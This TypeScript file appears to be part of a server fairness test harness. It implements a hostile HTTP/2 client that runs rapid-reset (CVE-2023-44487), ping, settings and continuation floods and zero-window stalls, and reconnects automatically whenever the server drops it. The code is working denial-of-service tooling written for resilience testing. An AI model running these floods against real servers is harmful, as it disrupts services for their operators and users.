// A hostile HTTP/2 client on a raw socket (h2c, prior knowledge), for the fairness workload: it
// attacks a server with one of the known HTTP/2 abuses until stopped, and when the server closes
// its connection (GOAWAY, reset, timeout) it connects again and goes on. It never throws: what
// happened is in the stats.
import { connect, type Socket } from "node:net";

export type HostileAttack = "rapid-reset" | "ping-flood" | "settings-flood" | "continuation-flood" | "zero-window";

export const hostileAttacks: readonly HostileAttack[] = [
  "rapid-reset",
  "ping-flood",
  "settings-flood",
  "continuation-flood",
  "zero-window",
];

/** What each attack does, for the report. */
export const hostileAttackDescriptions: Record<HostileAttack, string> = {
  "rapid-reset": "HEADERS of a real call then RST_STREAM(CANCEL), as fast as the socket takes them (CVE-2023-44487)",
  "ping-flood": "PING frames as fast as the socket takes them, the PING ACKs never read",
  "settings-flood": "SETTINGS frames as fast as the socket takes them, the SETTINGS ACKs never read",
  "continuation-flood": "a HEADERS frame without END_HEADERS, then CONTINUATION frames without end",
  "zero-window": "streams of a long server-streaming call with a receive window of 0, the socket never read",
};

export interface HostileClientOptions {
  /** `http://host:port` of the server (HTTP/2 with prior knowledge). */
  origin: string;
  attack: HostileAttack;
  /** The request that rapid-reset, continuation-flood and zero-window streams carry. */
  request: { path: string; headers: Record<string, string>; body: Buffer };
  /** zero-window: streams opened on each connection (default 100). */
  streams?: number;
  /**
   * The local address to connect from (default: the system's choice). On loopback any 127.x.y.z
   * reaches a server on 127.0.0.1, so the attacker can be a client of its own, as on the internet.
   */
  localAddress?: string;
}

export interface HostileStats {
  attack: HostileAttack;
  /** Connections opened (the first one and every reconnection). */
  connections: number;
  /** Connections that the server closed or reset while the attack ran. */
  closedByServer: number;
  /**
   * GOAWAY frames received (only seen by the attacks that read: rapid-reset, continuation-flood,
   * which then connect again).
   */
  goaways: number;
  /** Attack units written: reset streams, PINGs, SETTINGS, CONTINUATIONs, stalled streams. */
  sent: number;
  bytesSent: number;
  /** The last few socket errors, for the report. */
  errors: string[];
}

export interface HostileClient {
  /** Ends the attack and closes the socket; resolves with what happened. */
  stop(): Promise<HostileStats>;
}

const preface = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const FrameType = { Data: 0, Headers: 1, RstStream: 3, Settings: 4, Ping: 6, Goaway: 7, Continuation: 9 } as const;
const Flag = { EndStream: 0x1, Ack: 0x1, EndHeaders: 0x4 } as const;

function frame(type: number, flags: number, streamId: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header[3] = type;
  header[4] = flags;
  header.writeUInt32BE(streamId & 0x7fffffff, 5);
  return Buffer.concat([header, payload]);
}

/** HPACK integer with an N-bit prefix (RFC 7541 §5.1). */
function hpackInt(value: number, prefixBits: number, firstByte = 0): Buffer {
  const max = (1 << prefixBits) - 1;
  if (value < max) return Buffer.from([firstByte | value]);
  const bytes = [firstByte | max];
  let rest = value - max;
  while (rest >= 128) {
    bytes.push((rest % 128) + 128);
    rest = Math.floor(rest / 128);
  }
  bytes.push(rest);
  return Buffer.from(bytes);
}

/** A header block of literals without indexing (no dynamic table state), so it can be sent again and again. */
function headerBlock(fields: [string, string][]): Buffer {
  const parts: Buffer[] = [];
  for (const [name, value] of fields) {
    const n = Buffer.from(name);
    const v = Buffer.from(value);
    parts.push(Buffer.from([0]), hpackInt(n.length, 7), n, hpackInt(v.length, 7), v);
  }
  return Buffer.concat(parts);
}

function settings(entries: [id: number, value: number][]): Buffer {
  const payload = Buffer.alloc(entries.length * 6);
  entries.forEach(([id, value], i) => {
    payload.writeUInt16BE(id, i * 6);
    payload.writeUInt32BE(value, i * 6 + 2);
  });
  return frame(FrameType.Settings, 0, 0, payload);
}
const settingsInitialWindowSize = 0x4;

/** Frames written per batch: a batch is one write, so the attacker's own CPU stays small. */
const batchSize = 256;

export function startHostileClient(options: HostileClientOptions): HostileClient {
  const url = new URL(options.origin);
  const port = Number(url.port || 80);
  const host = url.hostname;
  const requestBlock = headerBlock([
    [":method", "POST"],
    [":scheme", "http"],
    [":path", options.request.path],
    [":authority", url.host],
    ...Object.entries(options.request.headers).map(([name, value]): [string, string] => [name.toLowerCase(), value]),
  ]);
  const stats: HostileStats = {
    attack: options.attack,
    connections: 0,
    closedByServer: 0,
    goaways: 0,
    sent: 0,
    bytesSent: 0,
    errors: [],
  };
  let stopped = false;
  let localAddress = options.localAddress;
  let socket: Socket | undefined;
  let reconnectTimer: NodeJS.Timeout | undefined;
  let nextStreamId = 1;

  const note = (error: Error) => {
    stats.errors.push(error.message);
    if (stats.errors.length > 5) stats.errors.shift();
  };

  /** Acknowledges the server's SETTINGS and counts its GOAWAY frames; the rest is discarded. */
  const readFrames = (s: Socket) => {
    let pending: Buffer = Buffer.alloc(0);
    s.on("data", (chunk: Buffer) => {
      pending = pending.length === 0 ? chunk : Buffer.concat([pending, chunk]);
      let offset = 0;
      while (pending.length - offset >= 9) {
        const length = pending.readUIntBE(offset, 3);
        if (pending.length - offset < 9 + length) break;
        const type = pending[offset + 3];
        if (type === FrameType.Goaway) {
          // The server takes no new streams on this connection: attack again on a new one.
          stats.goaways++;
          s.destroy();
          return;
        }
        if (type === FrameType.Settings && (pending[offset + 4]! & Flag.Ack) === 0) {
          write(s, frame(FrameType.Settings, Flag.Ack, 0));
        }
        offset += 9 + length;
      }
      pending = pending.subarray(offset);
    });
  };

  /** Builds the next batch of attack frames and how many attack units it holds. */
  const nextBatch = (): [Buffer, number] => {
    switch (options.attack) {
      case "rapid-reset": {
        const cancel = Buffer.alloc(4);
        cancel.writeUInt32BE(8); // CANCEL
        const frames: Buffer[] = [];
        for (let i = 0; i < batchSize && nextStreamId < 0x7fffffff; i++, nextStreamId += 2) {
          frames.push(frame(FrameType.Headers, Flag.EndHeaders, nextStreamId, requestBlock));
          frames.push(frame(FrameType.RstStream, 0, nextStreamId, cancel));
        }
        return [Buffer.concat(frames), frames.length / 2];
      }
      case "ping-flood": {
        const frames = Array.from({ length: batchSize }, (_, i) => {
          const data = Buffer.alloc(8);
          data.writeUInt32BE(stats.sent + i);
          return frame(FrameType.Ping, 0, 0, data);
        });
        return [Buffer.concat(frames), batchSize];
      }
      case "settings-flood": {
        const frames = Array.from({ length: batchSize }, (_, i) => settings([[settingsInitialWindowSize, 65_535 + (i % 2)]]));
        return [Buffer.concat(frames), batchSize];
      }
      case "continuation-flood": {
        // One byte of a header block each: never END_HEADERS.
        const one = frame(FrameType.Continuation, 0, nextStreamId, Buffer.from([0]));
        return [Buffer.concat(Array.from({ length: batchSize }, () => one)), batchSize];
      }
      case "zero-window":
        return [Buffer.alloc(0), 0];
    }
  };

  /** zero-window: `streams` more calls whose answers can never be sent. */
  const stalledStreams = (): Buffer[] => {
    const frames: Buffer[] = [];
    for (let i = 0; i < (options.streams ?? 100) && nextStreamId < 0x7fffffff; i++, nextStreamId += 2) {
      frames.push(frame(FrameType.Headers, Flag.EndHeaders, nextStreamId, requestBlock));
      frames.push(frame(FrameType.Data, Flag.EndStream, nextStreamId, options.request.body));
      stats.sent++;
    }
    return frames;
  };

  /** The frames that open a connection for the attack. */
  const opening = (): Buffer[] => {
    nextStreamId = 1;
    if (options.attack === "zero-window") {
      // Stream windows of 0: the server may send no DATA at all, and the socket is never read.
      return [preface, settings([[settingsInitialWindowSize, 0]]), ...stalledStreams()];
    }
    const frames = [preface, settings([])];
    if (options.attack === "continuation-flood") {
      frames.push(frame(FrameType.Headers, 0, nextStreamId, requestBlock));
    }
    return frames;
  };

  const write = (s: Socket, data: Buffer): boolean => {
    stats.bytesSent += data.length;
    return s.write(data);
  };

  const attack = (s: Socket) => {
    // Writes batches while the socket takes them, then waits for it to drain (or to close).
    const pump = () => {
      while (!stopped && !s.destroyed && socket === s) {
        const [batch, units] = nextBatch();
        if (units === 0) return;
        stats.sent += units;
        if (!write(s, batch)) {
          s.once("drain", pump);
          return;
        }
        // Let the event loop (timers, the harness's own clients) run between batches.
        if (stats.sent % (batchSize * 16) === 0) {
          setImmediate(pump);
          return;
        }
      }
    };
    pump();
  };

  const open = () => {
    if (stopped) return;
    const s = connect({ host, port, localAddress });
    socket = s;
    stats.connections++;
    s.setNoDelay(true);
    let connected = false;
    s.once("connect", () => {
      connected = true;
      for (const data of opening()) write(s, data);
      if (options.attack === "zero-window") {
        // Streams the server resets (a stall timeout) are replaced by new ones, as an attacker would.
        const more = setInterval(() => {
          if (s.destroyed || stopped) clearInterval(more);
          else for (const data of stalledStreams()) write(s, data);
        }, 2000);
        s.once("close", () => clearInterval(more));
      }
      // Floods of control frames and zero-window readers never read; the others read and discard.
      if (options.attack === "rapid-reset" || options.attack === "continuation-flood") readFrames(s);
      attack(s);
    });
    s.on("error", (error: NodeJS.ErrnoException) => {
      note(error);
      // A system without the other loopback addresses (macOS has only 127.0.0.1): attack from the default one.
      if (error.code === "EADDRNOTAVAIL" && localAddress !== undefined) {
        note(new Error(`cannot connect from ${localAddress}: attacking from the default address`));
        localAddress = undefined;
      }
    });
    s.once("close", () => {
      if (stopped || socket !== s) return;
      if (connected) stats.closedByServer++;
      // Connect again at once after a closed connection; wait a little when the server refused it.
      reconnectTimer = setTimeout(open, connected ? 1 : 100);
    });
  };

  open();
  return {
    async stop() {
      stopped = true;
      clearTimeout(reconnectTimer);
      const s = socket;
      socket = undefined;
      if (s && !s.destroyed) {
        const closed = new Promise((resolve) => s.once("close", resolve));
        s.destroy();
        await closed;
      }
      return stats;
    },
  };
}
